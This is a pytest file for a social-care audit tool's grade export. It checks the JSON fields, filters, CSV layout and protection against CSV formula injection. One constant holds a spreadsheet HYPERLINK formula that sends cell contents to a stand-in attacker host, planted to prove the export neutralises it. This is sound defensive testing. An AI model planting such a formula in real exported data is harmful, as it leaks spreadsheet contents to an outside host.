"""Grades for scripts: the JSON contract, the filters, and a CSV that Excel cannot run."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import MINI_RUBRICS

from qa_tui.cli.main import cli
from qa_tui.desks.audits import AuditDesk
from qa_tui.domain.records import Case
from qa_tui.store.database import Store

FORMULA = '=HYPERLINK("http://evil.invalid/?d="&A1,"Click")'


@dataclass
class Exported:
    db: Path
    submitted: int  # mini, Assessment North, submitted 2024-03-10
    partial: int  # mini, Child Protection East, started 2024-05-20
    voice: int  # voice-of-the-child, Child Protection East, created 2024-07-01


@pytest.fixture
def exported(tmp_path: Path) -> Exported:
    db = tmp_path / "qa.sqlite3"
    store = Store.open(db)
    store.upsert_cases(
        [
            Case("CIN-0001", "Assessment North", cohort="CIN"),
            Case("CP-0002", "Child Protection East", cohort="CP"),
        ],
        "lead",
        "t",
    )
    alice = AuditDesk(store, "alice", MINI_RUBRICS)
    submitted = alice.start_audit("CIN-0001", "mini")
    alice.grade(submitted, "child-seen", "good")
    alice.save_evidence(submitted, "child-seen", "Seen alone with her sister on 3 March")
    alice.add_theme(submitted, "child-seen", "+Child seen alone regularly")
    alice.add_theme(submitted, "", "+Strong multi-agency working")
    alice.mark_not_applicable(submitted, "plan-smart")
    alice.grade(submitted, "visits-in-time", "yes")
    alice.set_overall(submitted, "good")
    alice.set_text(submitted, "overall_rationale", "Consistent, child-centred work")
    alice.submit(submitted)

    partial = alice.start_audit("CP-0002", "mini")
    alice.grade(partial, "child-seen", "requires-improvement")
    alice.save_evidence(partial, "plan-smart", "Only a note so far")

    bob = AuditDesk(store, "bob")  # the shipped rubrics
    voice = bob.start_audit("CP-0002", "voice-of-the-child")

    with store.write() as conn:  # audits made on different days
        conn.execute(
            "UPDATE audits SET created_at='2024-03-01T09:00:00+00:00', "
            "started_at='2024-03-01T09:05:00+00:00', "
            "submitted_at='2024-03-10T16:00:00+00:00' WHERE id=?",
            (submitted,),
        )
        conn.execute(
            "UPDATE audits SET created_at='2024-05-19T09:00:00+00:00', "
            "started_at='2024-05-20T10:00:00+00:00' WHERE id=?",
            (partial,),
        )
        conn.execute(
            "UPDATE audits SET created_at='2024-07-01T09:00:00+00:00' WHERE id=?", (voice,)
        )
    store.close()
    return Exported(db, submitted, partial, voice)


def run(db: Path, *args: str) -> object:
    result = CliRunner().invoke(cli, ["export", "grades", "--db", str(db), *args])
    assert result.exit_code == 0, result.stderr
    return result


def export_json(db: Path, *args: str) -> dict:
    return json.loads(run(db, "--format", "json", *args).stdout)


def test_json_document_carries_grades_as_value_and_label(exported: Exported) -> None:
    doc = export_json(exported.db, "--with-workers")  # auditors' names only when asked
    assert doc["schema_version"] == 2 and doc["kind"] == "grades"
    assert [a["audit_id"] for a in doc["audits"]] == [
        exported.submitted,
        exported.partial,
        exported.voice,
    ]

    audit = doc["audits"][0]
    assert (audit["case_ref"], audit["team"], audit["auditor"], audit["status"]) == (
        "CIN-0001",
        "Assessment North",
        "alice",
        "submitted",
    )
    assert audit["rubric"]["id"] == "mini" and audit["rubric"]["version"] == "1"
    assert audit["audit_date"] == "2024-03-10"
    assert audit["overall"] == {"key": "good", "value": 2, "label": "Good"}
    answers = {a["criterion_id"]: a for a in audit["answers"]}
    assert answers["child-seen"]["grade"] == {"key": "good", "value": 2, "label": "Good"}
    assert answers["child-seen"]["not_applicable"] is False
    assert answers["visits-in-time"]["grade"] == {"key": "yes", "value": 1, "label": "Yes"}
    assert answers["plan-smart"]["not_applicable"] is True
    assert answers["plan-smart"]["grade"] is None
    assert answers["child-seen"]["themes"] == [
        {"theme": "Child seen alone regularly", "polarity": "strength"}
    ]
    assert answers["visits-in-time"]["themes"] == []
    assert audit["audit_themes"] == [
        {"theme": "Strong multi-agency working", "polarity": "strength"}
    ]

    partial = doc["audits"][1]
    assert partial["overall"] is None and partial["status"] == "in_progress"
    # An evidence note without a grade is not an answer yet.
    assert [a["criterion_id"] for a in partial["answers"]] == ["child-seen"]
    assert doc["audits"][2]["answers"] == [] and doc["audits"][2]["status"] == "to_do"


def test_evidence_is_left_out_unless_asked_for(exported: Exported) -> None:
    plain = run(exported.db).stdout
    assert "Seen alone with her sister" not in plain
    assert "Consistent, child-centred work" not in plain
    doc = json.loads(plain)
    assert doc["with_evidence"] is False
    assert all("evidence" not in a for audit in doc["audits"] for a in audit["answers"])

    doc = export_json(exported.db, "--with-evidence")
    assert doc["with_evidence"] is True
    answers = {a["criterion_id"]: a for a in doc["audits"][0]["answers"]}
    assert answers["child-seen"]["evidence"] == "Seen alone with her sister on 3 March"
    assert doc["audits"][0]["overall_rationale"] == "Consistent, child-centred work"


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        ((), ["submitted", "partial", "voice"]),
        (("--from", "2024-05-20"), ["partial", "voice"]),
        (("--from", "2024-05-21"), ["voice"]),
        (("--to", "2024-03-10"), ["submitted"]),
        (("--to", "2024-03-09"), []),
        (("--from", "2024-03-11", "--to", "2024-06-30"), ["partial"]),
        (("--team", "Child Protection East"), ["partial", "voice"]),
        (("--team", "Nobody"), []),
        (("--rubric", "mini"), ["submitted", "partial"]),
        (("--rubric", "voice-of-the-child"), ["voice"]),
        (("--team", "Child Protection East", "--rubric", "mini"), ["partial"]),
    ],
)
def test_filters_exclude_what_they_should(
    exported: Exported, args: tuple, expected: list[str]
) -> None:
    doc = export_json(exported.db, *args)
    names = {exported.submitted: "submitted", exported.partial: "partial", exported.voice: "voice"}
    assert [names[a["audit_id"]] for a in doc["audits"]] == expected
    assert {k: v for k, v in doc["filters"].items() if v} == {
        k.lstrip("-"): v for k, v in zip(args[::2], args[1::2], strict=True)
    }


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_opens_in_excel_and_has_one_row_per_answer(exported: Exported, tmp_path: Path) -> None:
    out = tmp_path / "grades.csv"
    run(exported.db, "--format", "csv", "-o", str(out))
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    rows = read_csv(raw.decode("utf-8-sig"))
    assert [(r["audit_id"], r["criterion_id"]) for r in rows] == [
        (str(exported.submitted), "child-seen"),
        (str(exported.submitted), "plan-smart"),
        (str(exported.submitted), "visits-in-time"),
        (str(exported.partial), "child-seen"),
        (str(exported.voice), ""),  # an audit with no answers still has its row
    ]
    first = rows[0]
    assert (
        first["team"],
        first["overall_value"],
        first["overall_label"],
        first["grade_value"],
        first["grade_label"],
        first["themes"],
    ) == ("Assessment North", "2", "Good", "2", "Good", "Child seen alone regularly")
    assert (rows[1]["not_applicable"], rows[1]["grade_value"]) == ("yes", "")
    assert "evidence" not in first


def test_csv_cells_cannot_run_as_formulas(exported: Exported) -> None:
    store = Store.open(exported.db)
    desk = AuditDesk(store, "alice", MINI_RUBRICS)
    desk.reopen(exported.submitted, "Planting hostile text")
    desk.save_evidence(exported.submitted, "child-seen", FORMULA)
    desk.save_evidence(exported.submitted, "visits-in-time", "+44 7700 900123 rang")
    store.add_theme(
        exported.submitted, "visits-in-time", "-danger", "area_for_development", "alice"
    )
    desk.save_evidence(exported.submitted, "plan-smart", "@SUM(1+1)")
    store.close()

    result = run(exported.db, "--format", "csv", "--with-evidence")
    assert result.stdout.startswith("\ufeff")
    rows = {
        r["criterion_id"]: r
        for r in read_csv(result.stdout.lstrip("\ufeff"))
        if r["audit_id"] == str(exported.submitted)
    }
    assert rows["child-seen"]["evidence"] == "'" + FORMULA
    assert rows["visits-in-time"]["evidence"] == "'+44 7700 900123 rang"
    assert rows["visits-in-time"]["themes"] == "'-danger"
    assert rows["plan-smart"]["evidence"] == "'@SUM(1+1)"
    for row in read_csv(result.stdout.lstrip("\ufeff")):
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@")), (column, value)
    # JSON is for scripts, not spreadsheets: the text is exactly as written there.
    doc = export_json(exported.db, "--with-evidence")
    answers = {a["criterion_id"]: a for a in doc["audits"][0]["answers"]}
    assert answers["child-seen"]["evidence"] == FORMULA


def test_export_reads_a_database_another_process_is_writing(exported: Exported) -> None:
    writer = Store.open(exported.db)
    desk = AuditDesk(writer, "alice", MINI_RUBRICS)
    desk.grade(exported.partial, "visits-in-time", "partly")  # committed, connection still open
    doc = export_json(exported.db)
    partial = next(a for a in doc["audits"] if a["audit_id"] == exported.partial)
    assert [a["criterion_id"] for a in partial["answers"]] == ["child-seen", "visits-in-time"]
    writer.close()


@pytest.mark.parametrize(
    "flags", [(), ("--with-workers",), ("--with-evidence",), ("--with-workers", "--with-evidence")]
)
def test_csv_rows_match_the_header_whatever_is_included(
    exported: Exported, flags: tuple[str, ...]
) -> None:
    text = run(exported.db, "--format", "csv", *flags).stdout.lstrip("\ufeff")
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert {len(r) for r in rows} == {len(header)}
    assert ("auditor" in header) == ("--with-workers" in flags)
    assert ("evidence" in header) == ("--with-evidence" in flags)
    auditors = {r[header.index("auditor")] for r in rows} if "auditor" in header else set()
    assert auditors <= {"alice", "bob"}
    assert ("alice" in text) == ("--with-workers" in flags)


def test_every_audit_carries_its_team_and_cohort_submitted_or_not(exported: Exported) -> None:
    """A submitted audit counts under its case's team at submission; one not yet submitted
    shows its case's team now. Neither is ever empty."""
    audits = {
        a["audit_id"] if "audit_id" in a else a["id"]: a for a in export_json(exported.db)["audits"]
    }
    assert audits[exported.submitted]["team"] == "Assessment North"
    assert audits[exported.partial]["team"] == "Child Protection East"
    assert audits[exported.partial]["cohort"] == "CP"
    assert [
        a["team"] for a in export_json(exported.db, "--team", "Child Protection East")["audits"]
    ] == ["Child Protection East", "Child Protection East"]
